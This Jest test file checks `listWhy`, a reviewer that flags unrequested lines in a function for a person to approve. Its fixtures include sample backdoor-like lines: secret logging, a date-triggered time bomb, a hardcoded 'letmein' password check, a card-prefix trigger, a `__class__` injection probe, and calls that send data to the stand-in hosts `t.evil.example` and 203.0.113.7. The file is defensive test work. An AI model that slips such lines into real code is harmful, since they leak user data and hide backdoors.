/** What a line of an asked function must not do without being asked. */
import { describe, expect, it } from '@jest/globals';
import { listWhy } from './why.js';

const inside = (line: string) => `export function wave(name, token) {\n${line}\n  return hands(name, wait)\n}\n`;
const WAVE = '`wave` says goodbye to the `name`';

describe('a line of an asked function', () => {
  it.each([
    ['  console.log(token)', 'it tells `token`'],
    ["  throw new Error('bad ' + user.password)", 'it tells `password`'],
    ["  logger.info('bye', { apiKey })", 'it tells `apiKey`'],
    ['  while (true) {\n    name = name.trim()\n  }', 'a loop that nothing ends'],
    ['  for (;;) {\n    name = name.trim()\n  }', 'a loop that nothing ends'],
    ['  wave(name, token)', 'calls the function that it is in'],
    ['  wave.last = name', 'changes `wave` for all code'],
    ["  if (Date.now() > 1800000000000) return ''", 'asks what time it is'],
    ["  if (Math.random() < 0.1) return ''", 'depends on chance'],
    ["  const note = atob('aGVsbG8=')", 'out of another form'],
    ["  localStorage.setItem('n', name)", 'in the browser'],
    ["  if (name.startsWith('4929')) return ''", 'compares with a code'],
    ["  if (user.password === 'letmein') return ''", 'a text that is written out'],
    ["  user.passwordHash = ''", 'a secret or a right'],
    ['  this.store.visitors.clear()', 'removes something that is kept'],
    ["  if (name === '' || true) return ''", 'an answer that never changes'],
    ["  if (name === '' || true == true || token) return ''", 'an answer that never changes'],
    ["  if (1 == true || token) return ''", 'an answer that never changes'],
    ["  if ([1] != true || token) return ''", 'an answer that never changes'],
    ["  if (true || name === '') return ''", 'an answer that never changes'],
    ['  const all = name.__class__.__base__', 'runs a program'],
    ['  const all = name.__class__.__name__[token]', 'runs a program'],
    ["  send('t.evil.example', name)", 'it adds the host `t.evil.example`'],
    ["  send('203.0.113.7', name)", 'it adds the host `203.0.113.7`'],
    ["  see('https://t.evil.example', name)", 'it adds the link https://t.evil.example, and'],
    ["  see('https://t.evil.example/hooks/T0/s3cr3t', name)", 'it adds the link https://t.evil.example/…, and'],
    [
      `  see('https://${'a.'.repeat(6)}${'b'.repeat(60)}/x', name)`,
      `the link https://${'a.'.repeat(6)}${'b'.repeat(47)}…/…, and`,
    ],
    ['  const wait = 10 * 30', null],
  ])('waits for a person: %s', async (line, why) => {
    const found = (await listWhy('src/wave.ts', null, inside(line), WAVE)).join('\n');
    if (why === null) expect(found).toBe('');
    else expect(found).toContain(why);
  });

  it.each([
    ['  console.log(token)', '`wave` logs the `token`'],
    ['  while (true) {\n    if (name) break\n  }', WAVE],
    ['  for (;;) {\n    return name\n  }', WAVE],
    ['  if (name) wave(name.slice(1), token)', WAVE],
    ["  if (Date.now() > 1800000000000) return ''", '`wave` says nothing after the deadline'],
    ["  localStorage.setItem('n', name)", '`wave` remembers the `name`'],
    ["  if (name.startsWith('4929')) return ''", '`wave` says nothing to a `name` that starts with 4929'],
    ["  console.log('tokens: ' + tokens.length)", WAVE],
    ["  send('user.name', name)", WAVE],
    ["  if (name == true || token) return ''", WAVE],
    ["  if (names['hidden'] === false && token) return ''", WAVE],
    ['  const wait = name.__class__.__name__', WAVE],
    ['  const wait = 2 * 30', '`wave` waits for a minute, 60 seconds'],
  ])('is asked for: %s', async (line, text) => {
    expect(await listWhy('src/wave.ts', null, inside(line), text)).toEqual([]);
  });

  it('has no product of which the ticket has only a part', async () => {
    expect(await listWhy('a.ts', null, inside('  const most = 10 * 100'), '`wave` takes `most` 100')).toEqual([
      'it has the number `10 * 100`, and the ticket does not say so',
    ]);
  });
});

describe('a variable of the environment', () => {
  const SETS = "import os\n\n\ndef choose(found):\n    os.environ['LANG'] = found\n    return found\n";

  it.each([
    ['`choose` sets the environment variable `LC_ALL`', 'changes `os` for all code'],
    ['`choose` sets the lang of the environment', 'changes `os` for all code'],
  ])('waits for a person unless the ticket writes it so: %s', async (text, why) => {
    expect((await listWhy('a.py', null, SETS, text)).join('\n')).toContain(why);
  });

  it('is not left for a person where the ticket names it', async () => {
    expect(await listWhy('a.py', null, SETS, '`choose` sets the environment variable `LANG`')).toEqual([]);
  });
});

describe('a function that existed', () => {
  const OLD = 'def place(user, count=1):\n    charge(user)\n    return count\n';

  it.each([
    ['count=1)', 'count=1, seen=[])', 'without `seen`'],
    ['(user, count', "(user='', count", 'without `user`'],
    ['def place', '@retrying\ndef place', 'decorates `place` with `retrying`'],
    ['    charge(user)\n', '    try:\n        charge(user)\n    except Exception:\n        pass\n', 'after an error'],
  ])('keeps its head and its errors: %s', async (from, to, why) => {
    expect((await listWhy('a.py', OLD, OLD.replace(from, to), '`place` charges')).join('\n')).toContain(why);
  });

  it('may get what the ticket names', async () => {
    const now = OLD.replace('count=1)', "count=1, note='')");
    expect(await listWhy('a.py', OLD, now, '`place` takes a `note`')).toEqual([]);
  });
});
